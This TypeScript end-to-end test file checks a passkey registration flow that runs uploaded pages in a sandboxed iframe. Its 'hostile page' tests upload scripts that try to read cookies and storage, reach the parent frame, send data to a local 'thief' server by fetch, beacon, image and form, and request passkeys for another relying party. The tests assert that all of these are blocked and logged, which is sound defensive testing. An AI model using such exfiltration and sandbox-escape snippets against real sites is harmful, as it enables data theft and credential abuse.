import { readFile } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, FrameLocator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { launchBrowser } from '../../scripts/browser.ts';
import { addAuthenticator } from '../support/authenticator.ts';
import { type Latchkey, removeDataDir, startLatchkey } from '../support/latchkey.ts';
import { type Rest, rest } from '../support/rest.ts';
import { guidePage, linkTo, uploadPage } from './support/page-process.ts';

let latchkey: Latchkey;
let browser: Browser;
let api: Rest;

beforeAll(async () => {
  [latchkey, browser] = await Promise.all([startLatchkey(), launchBrowser()]);
  api = rest(latchkey.baseUrl, latchkey.accessToken);
});
afterAll(async () => {
  await browser.close();
  await latchkey.stop();
  removeDataDir(latchkey.dataDir);
});

const links = new Map<string, Promise<string>>();

/** A person whose browser shows the page of that name. */
async function personAt(name: string) {
  const link = await (links.get(name) ?? linkTo(api, latchkey.baseUrl, name));
  links.set(name, Promise.resolve(link));
  const page = await (await browser.newContext({ locale: 'en-GB' })).newPage();
  const authenticator = await addAuthenticator(page);
  await page.goto(link);
  const frame = page.frameLocator('iframe');
  await page.waitForURL(/\/web\/trustweb\/[A-Z0-9]+$/);
  return { page, authenticator, frame };
}

const instanceOf = (page: Page) => new URL(page.url()).pathname.split('/').at(-1) ?? '';
const dataOf = async (page: Page) =>
  (await api.get(`/api/process-manager/processInstances/${instanceOf(page)}/sessionData`)).body;
const refusalsOf = async (page: Page): Promise<readonly string[]> => {
  const audit = await api.get(`/api/audit?instanceId=${instanceOf(page)}&action=page.refused&size=100`);
  return audit.body.content.map((row: { code: string }) => row.code);
};

async function passkeysOf(page: Page) {
  const userId = (await dataOf(page))._identityStore.users.user1.id;
  const users = `/api/identity-store/stores/${latchkey.storeName}/users/${userId}`;
  return (await api.get(`${users}/passkeys`)).body.content;
}

async function registerBy(frame: FrameLocator): Promise<void> {
  await frame.getByPlaceholder('Name', { exact: true }).fill('ada');
  await frame.getByPlaceholder('Display Name').fill('Ada Lovelace');
  await frame.getByRole('button', { name: 'Register' }).click();
}

describe('the guide’s page, uploaded as a zip', () => {
  beforeAll(async () => {
    await uploadPage(api, 'guidePage', await guidePage());
  });

  test('registers a passkey by an ordinary navigator.credentials.create, confirmed outside its frame', async () => {
    const { page, authenticator, frame } = await personAt('guidePage');
    expect(await page.locator('iframe').getAttribute('sandbox')).toBe('allow-scripts allow-forms');
    await registerBy(frame);
    await page.getByRole('heading', { name: 'Create your passkey' }).waitFor();
    await page.getByText('A passkey for').filter({ hasText: 'passkeyConfig (localhost)' }).waitFor();
    await page.getByText('Ada Lovelace (ada)').waitFor();
    expect(await authenticator.credentials()).toHaveLength(0);
    await page.getByRole('button', { name: 'Create passkey' }).click();
    await page.getByRole('heading', { name: 'Passkey created' }).waitFor();

    const [made] = await authenticator.credentials();
    expect(await passkeysOf(page)).toMatchObject([
      { credentialId: made?.credentialId, relyingPartyId: 'localhost' },
    ]);
    expect(await dataOf(page)).toMatchObject({
      _decision: 'PASS',
      _customPages: {
        registrationPage: {
          currentPage: { name: 'guidePage', version: 1, variables: { message: 'continue' } },
        },
      },
    });
    expect(await refusalsOf(page)).toEqual([]);
    await page.context().close();
  });

  test('hears of a cancel outside its frame as of any other, and the process offers another try', async () => {
    const { page, frame, authenticator } = await personAt('guidePage');
    await registerBy(frame);
    await page.getByRole('button', { name: 'Cancel' }).click();
    await page.getByRole('heading', { name: 'User cancelled the process' }).waitFor();
    expect(await dataOf(page)).toMatchObject({
      _customPages: {
        registrationPage: { currentPage: { variables: { message: 'cancelled', error: 'NotAllowedError' } } },
      },
    });
    await page.getByRole('button', { name: 'Continue' }).click();
    await registerBy(page.frameLocator('iframe'));
    await page.getByRole('button', { name: 'Create passkey' }).click();
    await page.getByRole('heading', { name: 'Passkey created' }).waitFor();
    expect(await authenticator.credentials()).toHaveLength(1);
    await page.context().close();
  });

  test('is the same after a reload', async () => {
    const { page } = await personAt('guidePage');
    await page.reload();
    await registerBy(page.frameLocator('iframe'));
    await page.getByRole('button', { name: 'Create passkey' }).click();
    await page.getByRole('heading', { name: 'Passkey created' }).waitFor();
    await page.context().close();
  });
});

test('startRegistration of SimpleWebAuthn works unchanged', async () => {
  const library = await readFile(
    new URL('../../node_modules/@simplewebauthn/browser/dist/bundle/index.umd.min.js', import.meta.url),
  );
  const app = `addEventListener('message', ({ data }) => {
    if (data.event !== 'message') return;
    document.querySelector('form').onsubmit = async (event) => {
      event.preventDefault();
      const optionsJSON = data.variables.constants.passkeyRegClientRequest;
      const passkeyRegistrationResponse = await SimpleWebAuthnBrowser.startRegistration({ optionsJSON });
      parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse } }, '*');
    };
  });
  parent.postMessage({ event: 'READY' }, '*');`;
  const html = (await guidePage())
    .find(({ name }) => name === 'index.html')
    ?.text?.toString()
    .replace('<script type', '<script src="simplewebauthn.js"></script><script type');
  await uploadPage(
    api,
    'simplePage',
    await guidePage([
      { name: 'index.html', text: html ?? '' },
      { name: 'simplewebauthn.js', text: library },
      { name: 'app.js', text: app },
    ]),
  );
  const { page, frame, authenticator } = await personAt('simplePage');
  await frame.getByRole('button', { name: 'Register' }).click();
  await page.getByRole('button', { name: 'Create passkey' }).click();
  await page.getByRole('heading', { name: 'Passkey created' }).waitFor();
  expect(await authenticator.credentials()).toHaveLength(1);
  await page.context().close();
});

describe('a hostile page', () => {
  let thief: Server;
  const stolen: string[] = [];

  beforeAll(async () => {
    thief = createServer((request, response) => {
      stolen.push(request.url ?? '');
      response.setHeader('access-control-allow-origin', '*');
      response.end('<h1>Thief</h1>');
    });
    await new Promise<void>((resolve) => thief.listen(0, '127.0.0.1', resolve));
  });
  afterAll(() => {
    thief.closeAllConnections();
    thief.close();
  });

  /** Tries what `script` says, in an async function, and sends what came of each try. */
  async function hostile(name: string, script: string) {
    const { port } = thief.address() as AddressInfo;
    const app = `const tried = {};
      const attempt = async (name, work) => {
        const patience = new Promise((resolve) => setTimeout(resolve, 2_000, 'no answer'));
        try { tried[name] = String((await Promise.race([work(), patience])) ?? 'nothing'); } catch (error) { tried[name] = error.name; }
      };
      const thief = 'http://127.0.0.1:${port}';
      const host = '${latchkey.baseUrl}';
      addEventListener('message', async ({ data }) => {
        if (data.event !== 'message') return;
        const request = data.variables.constants.passkeyRegClientRequest;
        ${script}
        document.body.append(Object.assign(document.createElement('pre'), { textContent: JSON.stringify(tried) }));
      });
      parent.postMessage({ event: 'READY' }, '*');`;
    await uploadPage(api, name, [
      {
        name: 'index.html',
        text: '<form method="post"><button>Go</button></form><script src="app.js"></script>',
      },
      { name: 'app.js', text: app },
    ]);
    return personAt(name);
  }
  const triedBy = async (frame: FrameLocator) =>
    JSON.parse((await frame.locator('pre').textContent()) ?? '{}') as Readonly<Record<string, string>>;

  test('reaches neither cookies nor storage, the page around, the top, a window, the API or a foreign host', async () => {
    const { page, frame, authenticator } = await hostile(
      'hostileReach',
      `await attempt('cookie', () => document.cookie);
       await attempt('storage', () => localStorage.length);
       await attempt('session', () => sessionStorage.length);
       await attempt('database', () => indexedDB.open('x').constructor.name);
       await attempt('parent', () => parent.document.title);
       await attempt('top', () => { top.location = thief + '/top'; });
       await attempt('open', () => open(thief + '/open'));
       await attempt('same-origin', () => fetch(host + '/api/audit', { credentials: 'include' }));
       await attempt('foreign', () => fetch(thief + '/fetch'));
       await attempt('beacon', () => navigator.sendBeacon(thief + '/beacon', 'x'));
       await attempt('worker', () => new Worker('app.js').constructor.name);
       await attempt('original', () => CredentialsContainer.prototype.create.call(navigator.credentials, {
         publicKey: PublicKeyCredential.parseCreationOptionsFromJSON(request) }));
       new Image().src = thief + '/image';
       await new Promise((resolve) => setTimeout(resolve, 300));`,
    );
    const tried = await triedBy(frame);
    expect(tried).toMatchObject({
      cookie: 'SecurityError',
      storage: 'SecurityError',
      session: 'SecurityError',
      parent: 'SecurityError',
      open: 'nothing',
      'same-origin': 'TypeError',
      foreign: 'TypeError',
      worker: 'SecurityError',
      original: 'NotAllowedError',
    });
    expect(tried.top).toBe('SecurityError');
    expect(new URL(page.url()).origin).toBe(latchkey.baseUrl);
    expect(page.context().pages()).toHaveLength(1);
    expect(stolen).toEqual([]);
    expect(await authenticator.credentials()).toEqual([]);
    await expect.poll(() => refusalsOf(page)).toContain('page.policy-violation');
    const audit = await api.get(`/api/audit?instanceId=${instanceOf(page)}&action=page.refused&size=100`);
    const about = audit.body.content.map((row: { facts: { about?: string } }) => row.facts.about);
    expect(about).toEqual(expect.arrayContaining(['connect-src', 'img-src']));
    await page.context().close();
  });

  test.each(['post', 'get'])('sends no form by %s', async (method) => {
    const { page, frame } = await hostile(
      `hostileForm-${method}`,
      `const form = Object.assign(document.createElement('form'), { method: '${method}', action: thief + '/form' });
       document.body.append(form);
       form.submit();`,
    );
    await expect.poll(() => refusalsOf(page)).toContain('page.policy-violation');
    expect(await frame.getByText('Thief').count()).toBe(0);
    expect(stolen).toEqual([]);
    await page.context().close();
  });

  test('cannot leave for another site and be given what it was not', async () => {
    const { page, frame } = await hostile('hostileAway', "location.href = thief + '/away';");
    await expect.poll(() => refusalsOf(page)).toEqual(['page.policy-violation']);
    expect(await frame.getByText('Thief').count()).toBe(0);
    expect(stolen).toEqual([]);
    await page.context().close();
  });

  test('gets no passkey for another relying party or challenge, whatever it shows', async () => {
    const { page, frame, authenticator } = await hostile(
      'hostileCeremony',
      `const options = (change) => ({ publicKey: { ...PublicKeyCredential.parseCreationOptionsFromJSON(request), ...change } });
       await attempt('other-rp', () => navigator.credentials.create(options({ rp: { id: 'example.org', name: 'passkeyConfig' } })));
       await attempt('other-challenge', () => navigator.credentials.create(options({ challenge: new Uint8Array(64) })));
       await attempt('no-challenge', () => navigator.credentials.create({ publicKey: {} }));
       await attempt('password', () => navigator.credentials.create({ password: { id: 'a', password: 'b' } }));`,
    );
    const tried = await triedBy(frame);
    expect(tried).toEqual({
      'other-rp': 'SecurityError',
      'other-challenge': 'NotAllowedError',
      'no-challenge': 'TypeError',
      password: 'NotSupportedError',
    });
    expect(await page.getByRole('button', { name: 'Create passkey' }).count()).toBe(0);
    expect(await authenticator.credentials()).toEqual([]);
    expect([...(await refusalsOf(page))].sort()).toEqual([
      'page.other-relying-party',
      'page.unknown-challenge',
    ]);
    await page.context().close();
  });

  test('gains nothing by large or foreign messages and by sending twice: the first SEND counts', async () => {
    const { page } = await hostile(
      'hostileMessages',
      `parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: 'x'.repeat(1_000_000) } }, '*');
       parent.postMessage({ event: 'DELETE' }, '*');
       parent.postMessage('SEND', '*');
       parent.postMessage({ event: 'SEND', variables: [1] }, '*');
       parent.postMessage({ event: 'LATCHKEY' }, '*');
       parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: null, number: 1 } }, '*');
       parent.postMessage({ event: 'SEND', variables: { passkeyRegistrationResponse: null, number: 2 } }, '*');`,
    );
    await page.getByRole('heading', { name: 'User cancelled the process' }).waitFor();
    const { pages } = (await dataOf(page))._customPages.registrationPage;
    expect(Object.values(pages)).toMatchObject([{ variables: { number: 1 } }]);
    expect([...(await refusalsOf(page))].sort()).toEqual([
      'page.invalid-message',
      'page.invalid-message',
      'page.invalid-message',
      'page.invalid-message',
      'page.message-too-large',
      'page.sent-again',
    ]);
    await page.context().close();
  });

  test('learns no more when its address is opened directly', async () => {
    const { page } = await hostile('hostileDirect', '');
    const url = (await page.locator('iframe').getAttribute('src')) ?? '';
    await page.goto(url);
    expect(await page.evaluate('origin')).toBe('null');
    expect(
      await page.evaluate('(() => { try { return document.cookie } catch (error) { return error.name } })()'),
    ).toBe('SecurityError');
    await page.context().close();
  });
});
